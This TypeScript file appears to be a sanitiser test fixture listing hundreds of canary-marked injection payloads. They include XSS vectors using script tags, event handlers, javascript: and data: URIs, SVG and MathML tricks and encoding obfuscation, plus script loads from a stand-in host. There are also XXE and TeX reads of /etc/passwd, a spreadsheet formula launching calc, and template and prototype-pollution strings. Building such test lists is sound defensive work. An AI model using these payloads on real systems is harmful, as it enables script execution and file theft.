/** What every payload tries to do carries this word: nothing may ask for it, say it aloud or run it. */
export const canary = 'xss-canary'
const run = `alert('${canary}')`

const events = [
  ...['onerror', 'onload', 'onclick', 'onmouseover', 'onfocus', 'onblur', 'onanimationstart', 'ontransitionend'],
  ...['onpointerrawupdate', 'ontoggle', 'onwheel', 'onbegin', 'onend', 'onrepeat', 'oncut', 'oncopy', 'onpaste'],
  ...['onsubmit', 'onreset', 'onchange', 'oninput', 'oninvalid', 'onkeydown', 'ondrag', 'ondrop', 'onscroll'],
  ...['onhashchange', 'onmessage', 'onpageshow', 'onresize', 'onstorage', 'onunload'],
]
const handlers = events.flatMap((event) => [
  `<b ${event}=${run} tabindex=0 autofocus>fett</b>`,
  `"><svg/${event.toUpperCase()}=${run}>`,
])

const scripts = [
  `<script>${run}</script>`,
  `<ScRiPt>${run}</sCrIpT>`,
  `<script src=/${canary}></script>`,
  `<script src="https://elsewhere.example/${canary}.js"></script>`,
  `<script type=module>import '/${canary}'</script>`,
  `<script/x>${run}</script>`,
  `<script\n>${run}</script\n>`,
  `<<script>${run}//<</script>`,
  `</title><script>${run}</script>`,
  `</textarea><script>${run}</script>`,
  `</style><script>${run}</script>`,
  `--><script>${run}</script>`,
  `]]><script>${run}</script>`,
  `<noscript><p title="</noscript><script>${run}</script>">`,
  `<script>eval("${run}")</script>`,
  `<script>new Function("${run}")()</script>`,
  `<script>fetch('/${canary}')</script>`,
  `<script>location='/${canary}'</script>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `%3Cscript%3E${run}%3C/script%3E`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `&#60;script&#62;${run}&#60;/script&#62;`,
  `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
  `＜script＞${run}＜/script＞`,
  `\\x3cscript\\x3e${run}\\x3c/script\\x3e`,
  `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
]

const elements = [
  `<iframe src="javascript:${run}"></iframe>`,
  `<iframe srcdoc="<script>${run}</script>"></iframe>`,
  `<object data="javascript:${run}"></object>`,
  `<embed src="javascript:${run}">`,
  `<base href="https://elsewhere.example/${canary}/">`,
  `<meta http-equiv=refresh content="0;url=/${canary}">`,
  `<link rel=stylesheet href=/${canary}>`,
  `<link rel=prefetch href=/${canary}>`,
  `<style>@import '/${canary}';</style>`,
  `<style>*{background:url(/${canary})}</style>`,
  `<form action="javascript:${run}"><button>x</button></form>`,
  `<button formaction="javascript:${run}">x</button>`,
  `<isindex action="javascript:${run}" type=image>`,
  `<table background="javascript:${run}"><tr><td>x</td></tr></table>`,
  `<details open ontoggle=${run}>x</details>`,
  `<marquee onstart=${run}>x</marquee>`,
  `<keygen autofocus onfocus=${run}>`,
  `<template><script>${run}</script></template>`,
  `<slot onslotchange=${run}></slot>`,
  `<dialog open onclose=${run}>x</dialog>`,
  `<portal src="/${canary}">`,
  `<p style="background-image:url(/${canary})">x</p>`,
  `<p style="width:expression(${run})">x</p>`,
  `<p style="-moz-binding:url(/${canary})">x</p>`,
  `<x-element is="${canary}" onclick=${run}>x</x-element>`,
  `<a ping=/${canary} href=#>x</a>`,
  `<a id=defaultView name=currentScript href=#>x</a>`,
  `<form id=attributes><b name=parentNode>x</b></form>`,
]

const schemes = [
  ...['javascript:', 'JaVaScRiPt:', 'java\tscript:', ' javascript:', '&#106;avascript:', '&#x6A;avascript:'],
  ...[
    'javascript&colon;',
    'java&Tab;script:',
    'javascript://%0a',
    'vbscript:',
    'view-source:javascript:',
    'feed:javascript:',
  ],
  ...[
    'jav&#x0A;ascript:',
    'javascript:void(0);',
    'livescript:',
    'mocha:',
    'blob:javascript:',
    'filesystem:javascript:',
  ],
]
const links = schemes.flatMap((scheme) => [
  `<a href="${scheme}${run}">x</a>`,
  `[x](${scheme}${run})`,
  `HYPERLINK "${scheme}${run}"`,
  `<area href='${scheme}${run}' shape=default>`,
])

const data = [
  `<a href="data:text/html,<script>${run}</script>">x</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgneHNzLWNhbmFyeScpPC9zY3JpcHQ+">x</a>`,
  `<iframe src="data:text/html,<script>${run}</script>"></iframe>`,
  `<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>`,
  `<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`,
  `<script src="data:text/javascript,${run}"></script>`,
  `<link rel=stylesheet href="data:text/css,*{color:red}">`,
  `data:text/html,<script>${run}</script>`,
  `data:image/svg+xml,<svg onload=${run}>`,
]

const formulas = [
  `\\href{javascript:${run}}{x}`,
  `\\url{javascript:${run}}`,
  `\\includegraphics[width=1em]{/${canary}}`,
  `\\includegraphics{https://elsewhere.example/${canary}.png}`,
  `\\htmlClass{${canary}}{x}`,
  `\\htmlId{${canary}}{x}`,
  `\\htmlStyle{background:url(/${canary})}{x}`,
  `\\htmlData{a=${canary}}{x}`,
  `\\unicode{<img src=/${canary} onerror=${run}>}`,
  `\\text{<img src=/${canary} onerror=${run}>}`,
  `\\text{</annotation><script>${run}</script>}`,
  `\\mathchoice{}{}{}{\\href{javascript:${run}}{x}}`,
  `\\def\\x{\\x\\x}\\x`,
  `\\newcommand{\\y}[1]{\\href{javascript:#1}{y}}\\y{${run}}`,
  `\\rule{1000000em}{1000000em}`,
  `\\color{red;background:url(/${canary})}x`,
  `\\style{background:url(/${canary})}{x}`,
  `\\class{${canary}}{x}`,
  `\\require{html}\\href{javascript:${run}}{x}`,
  `\\input{/etc/passwd}`,
  `\\csname href\\endcsname{javascript:${run}}{x}`,
  `\\Html{<b onclick=${run}>x</b>}`,
]
const mathml = [
  `<math><mtext><script>${run}</script></mtext></math>`,
  `<math href="javascript:${run}">x</math>`,
  `<math><maction actiontype="statusline#javascript:${run}">x</maction></math>`,
  `<math><mi xlink:href="javascript:${run}">x</mi></math>`,
  `<math><annotation-xml encoding="text/html"><b onclick=${run}>x</b></annotation-xml></math>`,
  `<math><mglyph><svg><style><b title="</style><script>${run}</script>">`,
  `<math><mtext><table><mglyph><style><b title="</style><script>${run}</script>">`,
  `<math><mstyle background="url(/${canary})">x</mstyle></math>`,
]

const templates = [
  ...[`{{constructor.constructor("${run}")()}}`, `\${${run}}`, `#{${run}}`, `<%= ${run} %>`, `{{7*7}}`, `[[${run}]]`],
  ...[`{%${run}%}`, `{{{${run}}}}`, `\`\${${run}}\``, `ng-init="${run}"`, `v-html="'<b onclick=${run}>'"`],
  ...[
    `__proto__`,
    `constructor.prototype`,
    `=HYPERLINK("javascript:${run}")`,
    `=cmd|' /C calc'!A0`,
    `@SUM(1)*${canary}`,
  ],
  ...[
    `' onclick=${run} x='`,
    `" autofocus onfocus=${run} x="`,
    `\` onfocus=${run} x=\``,
    `x' || ${run} || '`,
    `";${run};//`,
  ],
  ...[
    `'-${run}-'`,
    `\\";${run};//`,
    `</option></select><b onclick=${run}>`,
    `*/${run}/*`,
    `{"__proto__":{"${canary}":1}}`,
  ],
]

const entities = [
  `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>`,
  `<!ENTITY e "<script>${run}</script>">&e;`,
  `<?xml-stylesheet href="javascript:${run}"?>`,
  `<?php ${run} ?>`,
  `<![CDATA[<script>${run}</script>]]>`,
  `<!--#include virtual="/${canary}"-->`,
  `<!--[if IE]><script>${run}</script><![endif]-->`,
  `<xi:include href="/${canary}"/>`,
  `<x xmlns="http://www.w3.org/1999/xhtml" onclick="${run}">x</x>`,
  `&Tab;&NewLine;&nbsp;&#0;&#xD800;&#x110000;&${canary};`,
]

/** Those that show something which has to be fetched: a question of HTML with one of them is rejected. */
const pictures = [
  `<img src=x onerror=${run}>`,
  `<img src=/${canary}>`,
  `<img src="https://elsewhere.example/${canary}.png">`,
  `<img srcset="/${canary} 1x">`,
  `<img src=javascript:${run}>`,
  `<img """><script>${run}</script>">`,
  `<img src=x:x onerror\n=${run}>`,
  `<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${run}>`,
  `<image src=/${canary} onerror=${run}>`,
  `<picture><source srcset=/${canary}><img onerror=${run}></picture>`,
  `<video src=/${canary} onerror=${run}></video>`,
  `<video poster=/${canary}></video>`,
  `<audio src=/${canary} onerror=${run}></audio>`,
  `<input type=image src=/${canary} onerror=${run}>`,
  `<svg onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><script href=/${canary} /></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><set attributeName=href to=javascript:${run} />`,
  `<svg><a xlink:href="javascript:${run}"><text>x</text></a></svg>`,
  `<svg><image href=/${canary} /></svg>`,
  `<svg><use href="/${canary}#x"/></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${run}>#x"/></svg>`,
  `<svg><foreignObject><b onclick=${run}>x</b></foreignObject></svg>`,
  `<svg><style>@import '/${canary}'</style></svg>`,
  `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${run}</handler></svg>`,
  `<svg><feImage href=/${canary} /></svg>`,
]

/** Characters that hide, break or turn what stands around them. */
const hidden = [
  '\u0000',
  '\u0001',
  '\u001b[31m',
  '\u007f',
  '\u0085',
  '\u00ad',
  '\u200b',
  '\u200d',
  '\u200e',
  '\u202e',
  '\u2066',
  '\ufeff',
  '\ufff9',
  '\u{e0041}',
  '\u2028',
].map((character) => `<scr${character}ipt>${run}</scr${character}ipt>${character}`)

export const tex: readonly string[] = formulas
/** Every payload; those with what is rejected by some readers stand together, so that they take few others along. */
export const payloads: readonly string[] = [
  ...handlers,
  ...scripts,
  ...elements,
  ...links,
  ...data,
  ...formulas,
  ...mathml,
  ...templates,
  ...entities,
  ...pictures,
  ...hidden,
]
